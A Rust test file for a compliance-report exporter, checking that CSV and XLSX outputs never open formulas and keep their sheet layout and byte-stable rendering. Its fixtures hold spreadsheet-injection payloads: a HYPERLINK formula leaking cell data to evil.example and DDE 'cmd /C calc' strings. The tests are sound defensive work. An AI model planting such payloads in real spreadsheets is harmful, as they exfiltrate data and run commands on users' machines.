//! The report as tables: CSV cells never open a formula, whatever a profile's words are, and the
//! XLSX workbook reads back (sheet names, header cells, row counts, frozen and filtered headers)
//! and is the same bytes for the same report.

mod example;

use crosswalk_engine::{evidence_requests, EvidenceRequests, Report};
use crosswalk_report::{report_csv, report_xlsx, CsvTable};
use std::io::Read;

fn example_report() -> Report {
    example().0
}

/// The example's report as of 2026-11-30 and its evidence requests.
fn example() -> (Report, EvidenceRequests) {
    let registry = example::registry();
    let profile = example::example_profile(&registry);
    let report = example::evaluated(&registry, &profile);
    let evidence = evidence_requests(&report, &profile, &example::selected_plugins(&registry, &profile));
    (report, evidence)
}

const TITLE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
const OWNER: &str = "+cmd|' /C calc'!A0";
const REASON: &str = "-2+3+cmd|' /C calc'!A0";
const NAME: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const REQUIREMENT_TITLE: &str = "\t=1+1";
const REQUIREMENT_REASON: &str = "\r=1+1";

/// The example report with hostile words wherever a profile's or a person's words reach a cell:
/// control titles and owners, decider names, reasons, requirement titles.
fn hostile_report() -> Report {
    let mut report = example_report();
    for control in &mut report.controls {
        control.title = TITLE.to_owned();
        control.owner = Some(OWNER.to_owned());
    }
    for group in &mut report.agenda {
        group.name = Some(NAME.to_owned());
        for item in &mut group.items {
            item.reason = REASON.to_owned();
        }
    }
    for requirement in report.frameworks.iter_mut().flat_map(|f| &mut f.requirements) {
        requirement.title = REQUIREMENT_TITLE.to_owned();
        requirement.reason = REQUIREMENT_REASON.to_owned();
    }
    report
}

fn csv_rows(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().expect("a header row").iter().map(str::to_owned).collect();
    let rows = reader.records().map(|r| r.expect("a well-formed record").iter().map(str::to_owned).collect()).collect();
    (headers, rows)
}

fn column(headers: &[String], name: &str) -> usize {
    headers.iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name} in {headers:?}"))
}

fn assert_no_formula(rows: &[Vec<String>]) {
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell opens a formula: {cell:?}");
    }
}

#[test]
fn csv_cells_never_open_a_formula() {
    let report = hostile_report();
    let (headers, rows) = csv_rows(&report_csv(&report, CsvTable::Requirements).expect("CSV renders"));
    assert_no_formula(&rows);
    let total: usize = report.frameworks.iter().map(|f| f.requirements.len()).sum();
    assert_eq!(rows.len(), total, "one row per requirement");
    assert!(rows.iter().all(|row| row[column(&headers, "title")] == format!("'{REQUIREMENT_TITLE}")));
    assert!(rows.iter().all(|row| row[column(&headers, "reason")] == format!("'{REQUIREMENT_REASON}")));

    let (headers, rows) = csv_rows(&report_csv(&report, CsvTable::Agenda).expect("CSV renders"));
    assert_no_formula(&rows);
    assert_eq!(rows.len(), report.agenda.iter().map(|g| g.items.len()).sum::<usize>(), "one row per decision");
    assert!(rows.iter().all(|row| row[column(&headers, "reason")] == format!("'{REASON}")));
    let named: Vec<_> = rows.iter().filter(|row| row[column(&headers, "decider")] != "nobody").collect();
    assert!(!named.is_empty() && named.iter().all(|row| row[column(&headers, "name")] == format!("'{NAME}")));
    let about_controls: Vec<_> = rows.iter().filter(|row| !row[column(&headers, "control title")].is_empty()).collect();
    assert!(!about_controls.is_empty(), "agenda items about controls name their title");
    for row in about_controls {
        assert_eq!(row[column(&headers, "control title")], format!("'{TITLE}"));
        assert_eq!(row[column(&headers, "control owner")], format!("'{OWNER}"));
    }
}

#[test]
fn csv_lists_every_signal_and_decider_of_a_requirement() {
    let report = example_report();
    let (headers, rows) = csv_rows(&report_csv(&report, CsvTable::Requirements).expect("CSV renders"));
    assert_eq!(
        headers,
        ["framework", "requirement", "title", "baseline", "demanded", "reason", "controls", "signals", "markers", "deciders"]
    );
    let row = rows.iter().find(|row| row[0] == "iso27001" && row[1] == "A.8.13").expect("ISO A.8.13, information backup");
    let signals: Vec<&str> = row[column(&headers, "signals")].split("; ").collect();
    assert!(signals.contains(&"scope-gap"), "its own scope gap: {signals:?}");
    let requirement = report.frameworks[0].requirements.iter().find(|r| r.id == "A.8.13").expect("A.8.13");
    for signal in &requirement.control_signals {
        assert!(signals.contains(&signal.to_string().as_str()), "its controls' {signal}: {signals:?}");
    }
    assert!(row[column(&headers, "markers")].contains("scope-gap patient-messaging BCK-01"), "{}", row[8]);
    assert!(row[column(&headers, "deciders")].split("; ").any(|d| d == "nobody"), "the scope gap nobody may decide: {}", row[9]);
}

/// The files of an XLSX (a zip archive), by name.
fn unzip(bytes: &[u8]) -> std::collections::BTreeMap<String, String> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("an XLSX is a zip archive");
    let mut files = std::collections::BTreeMap::new();
    for index in 0..archive.len() {
        let mut file = archive.by_index(index).expect("an entry");
        let mut text = String::new();
        file.read_to_string(&mut text).expect("XML text");
        files.insert(file.name().to_owned(), text);
    }
    files
}

fn unescape(text: &str) -> String {
    text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&apos;", "'").replace("&amp;", "&")
}

/// Every text between `open` and the next `close`, in order.
fn between<'a>(xml: &'a str, open: &str, close: &str) -> Vec<&'a str> {
    xml.split(open).skip(1).filter_map(|part| part.split_once(close).map(|(inside, _)| inside)).collect()
}

/// The content of every `<tag>` or `<tag ...>` element, in order.
fn elements<'a>(xml: &'a str, tag: &str) -> Vec<&'a str> {
    xml.split(&format!("<{tag}"))
        .skip(1)
        .filter(|part| part.starts_with(['>', ' ']))
        .filter_map(|part| part.split_once('>')?.1.split_once(&format!("</{tag}>")).map(|(inside, _)| inside))
        .collect()
}

fn shared_strings(files: &std::collections::BTreeMap<String, String>) -> Vec<String> {
    elements(&files["xl/sharedStrings.xml"], "si").into_iter().map(|si| unescape(&elements(si, "t").concat())).collect()
}

/// The header cells (row 1) of a sheet, as text.
fn header_cells(sheet: &str, strings: &[String]) -> Vec<String> {
    let first_row = between(sheet, "<row r=\"1\"", "</row>")[0];
    between(first_row, "<v>", "</v>").into_iter().map(|index| strings[index.parse::<usize>().expect("a string index")].clone()).collect()
}

const EVIDENCE_HEADERS: [&str; 13] = [
    "framework",
    "status",
    "kind",
    "control",
    "system",
    "objective",
    "asked",
    "detail",
    "missing intervals",
    "on file",
    "newest on file",
    "owner",
    "requirements",
];

#[test]
fn xlsx_reads_back_with_a_sheet_per_framework_the_agenda_the_shared_gaps_and_the_evidence_requests() {
    let (report, evidence) = example();
    let files = unzip(&report_xlsx(&report, &evidence).expect("the workbook renders"));
    let names: Vec<String> = between(&files["xl/workbook.xml"], "<sheet name=\"", "\"").into_iter().map(unescape).collect();
    assert_eq!(names, ["iso27001", "soc2", "hipaa", "agenda", "shared gaps", "evidence requests"]);
    let strings = shared_strings(&files);

    let iso = &files["xl/worksheets/sheet1.xml"];
    assert_eq!(
        header_cells(iso, &strings),
        ["framework", "requirement", "title", "baseline", "demanded", "reason", "controls", "signals", "markers", "deciders"]
    );
    assert_eq!(iso.matches("<row ").count(), 1 + report.frameworks[0].requirements.len(), "a header and a row per requirement");

    let agenda = &files["xl/worksheets/sheet4.xml"];
    assert_eq!(
        header_cells(agenda, &strings),
        [
            "decider",
            "name",
            "rating",
            "score",
            "tier",
            "signal",
            "subject",
            "control title",
            "control owner",
            "reason",
            "open requirements",
            "requirements"
        ]
    );
    assert_eq!(agenda.matches("<row ").count(), 1 + report.agenda.iter().map(|g| g.items.len()).sum::<usize>());

    let gaps = &files["xl/worksheets/sheet5.xml"];
    assert_eq!(header_cells(gaps, &strings)[..3], ["objective", "title", "status"]);
    assert_eq!(gaps.matches("<row ").count(), 1 + report.shared_gaps.len());

    let requests = &files["xl/worksheets/sheet6.xml"];
    assert_eq!(header_cells(requests, &strings), EVIDENCE_HEADERS);
    assert!(evidence.total > 0 && evidence.missing > 0 && evidence.present > 0, "the example has requests of each kind");
    assert_eq!(requests.matches("<row ").count(), 1 + evidence.total, "a header and a row per request");

    for sheet in (1..=6).map(|n| &files[&format!("xl/worksheets/sheet{n}.xml")]) {
        assert!(sheet.contains("state=\"frozen\"") && sheet.contains("ySplit=\"1\""), "the header row is frozen");
        assert!(sheet.contains("<autoFilter ref=\"A1:"), "the header row filters");
        assert!(sheet.contains("<cols>"), "columns are sized");
    }
}

#[test]
fn xlsx_is_the_same_bytes_for_the_same_report_dated_by_its_as_of() {
    let (report, evidence) = example();
    let first = report_xlsx(&report, &evidence).expect("the workbook renders");
    let (again, again_evidence) = example();
    assert_eq!(first, report_xlsx(&again, &again_evidence).expect("the workbook renders"), "two renders, the same bytes");
    let core = &unzip(&first)["docProps/core.xml"];
    assert!(core.contains(">2026-11-30T00:00:00Z</dcterms:created>"), "created on the as-of date: {core}");
}

#[test]
fn xlsx_keeps_hostile_words_as_text_never_formulas() {
    let evidence = example().1;
    let files = unzip(&report_xlsx(&hostile_report(), &evidence).expect("the workbook renders"));
    for (name, sheet) in files.iter().filter(|(name, _)| name.starts_with("xl/worksheets/")) {
        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{name} holds a formula");
    }
    let strings = shared_strings(&files);
    for hostile in [TITLE, OWNER, REASON, NAME, REQUIREMENT_TITLE] {
        assert!(strings.iter().any(|s| s == hostile), "{hostile:?} is kept as it is, as text");
    }
}

/// The example's Statement of Applicability as of 2026-11-30; `hostile` puts formula openers in
/// every control title and in the exclusions' justifications.
fn example_soa(hostile: bool) -> crosswalk_report::StatementOfApplicability {
    let registry = example::registry();
    let profile = example::example_profile(&registry);
    let mut report = example::evaluated(&registry, &profile);
    if hostile {
        for control in &mut report.controls {
            control.title = TITLE.to_owned();
        }
        // An exclusion's justification reaches the statement as the plugin's reason.
        let iso = report.frameworks.iter_mut().find(|f| f.id == "iso27001").expect("iso27001 is evaluated");
        for excluded in iso.requirements.iter_mut().filter(|r| r.baseline == crosswalk_model::Verdict::NotApplicable) {
            excluded.reason = REASON.to_owned();
        }
    }
    let catalog = registry.plugin("iso27001").expect("iso27001").catalog();
    crosswalk_report::statement_of_applicability(&report, catalog, &profile).expect("iso27001 is evaluated")
}

const SOA_HEADERS: [&str; 11] = [
    "control",
    "title",
    "theme",
    "applicability",
    "justification",
    "status",
    "level",
    "demanded",
    "objectives",
    "implementing controls",
    "evidence",
];

#[test]
fn soa_csv_cells_never_open_a_formula() {
    let (headers, rows) = csv_rows(&crosswalk_report::soa_csv(&example_soa(true)).expect("CSV renders"));
    assert_eq!(headers, SOA_HEADERS);
    assert_eq!(rows.len(), 93, "one row per Annex A control");
    assert_no_formula(&rows);
    let excluded: Vec<_> = rows.iter().filter(|row| row[column(&headers, "applicability")] == "excluded").collect();
    assert_eq!(excluded.len(), 2);
    assert!(excluded.iter().all(|row| row[column(&headers, "justification")] == format!("'{REASON}")));
    let implemented: Vec<_> = rows.iter().filter(|row| !row[column(&headers, "implementing controls")].is_empty()).collect();
    assert!(!implemented.is_empty());
    assert!(implemented.iter().all(|row| row[column(&headers, "implementing controls")].contains(TITLE)));
}

#[test]
fn soa_xlsx_reads_back_as_one_sheet_of_93_controls() {
    let soa = example_soa(false);
    let bytes = crosswalk_report::soa_xlsx(&soa).expect("the workbook renders");
    assert_eq!(bytes, crosswalk_report::soa_xlsx(&example_soa(false)).expect("the workbook renders"), "the same bytes");
    let files = unzip(&bytes);
    let names: Vec<String> = between(&files["xl/workbook.xml"], "<sheet name=\"", "\"").into_iter().map(unescape).collect();
    assert_eq!(names, ["statement of applicability"]);
    let strings = shared_strings(&files);
    let sheet = &files["xl/worksheets/sheet1.xml"];
    assert_eq!(header_cells(sheet, &strings), SOA_HEADERS);
    assert_eq!(sheet.matches("<row ").count(), 93 + 1, "a header and a row per Annex A control");
    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("ySplit=\"1\""), "the header row is frozen");
    assert!(sheet.contains("<autoFilter ref=\"A1:"), "the header row filters");
    assert!(sheet.contains("<cols>"), "columns are sized");
    assert!(files["docProps/core.xml"].contains(">2026-11-30T00:00:00Z</dcterms:created>"));

    let hostile = unzip(&crosswalk_report::soa_xlsx(&example_soa(true)).expect("the workbook renders"));
    let sheet = &hostile["xl/worksheets/sheet1.xml"];
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "the sheet holds a formula");
    assert!(shared_strings(&hostile).iter().any(|s| s == REASON), "the justification is kept as text");
}

#[test]
fn evidence_xlsx_reads_back_as_one_sheet_of_requests_and_csv_has_the_same_rows() {
    let evidence = example().1;
    let bytes = crosswalk_report::evidence_xlsx(&evidence).expect("the workbook renders");
    assert_eq!(bytes, crosswalk_report::evidence_xlsx(&example().1).expect("the workbook renders"), "the same bytes");
    let files = unzip(&bytes);
    let names: Vec<String> = between(&files["xl/workbook.xml"], "<sheet name=\"", "\"").into_iter().map(unescape).collect();
    assert_eq!(names, ["evidence requests"]);
    let sheet = &files["xl/worksheets/sheet1.xml"];
    assert_eq!(header_cells(sheet, &shared_strings(&files)), EVIDENCE_HEADERS);
    assert_eq!(sheet.matches("<row ").count(), 1 + evidence.total);
    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("<autoFilter ref=\"A1:") && sheet.contains("<cols>"));

    let (headers, rows) = csv_rows(&crosswalk_report::evidence_csv(&evidence).expect("CSV renders"));
    assert_eq!(headers, EVIDENCE_HEADERS);
    assert_eq!(rows.len(), evidence.total, "one row per request");
    let missing = rows.iter().filter(|row| row[column(&headers, "status")] == "missing").count();
    assert_eq!(missing, evidence.missing);
}
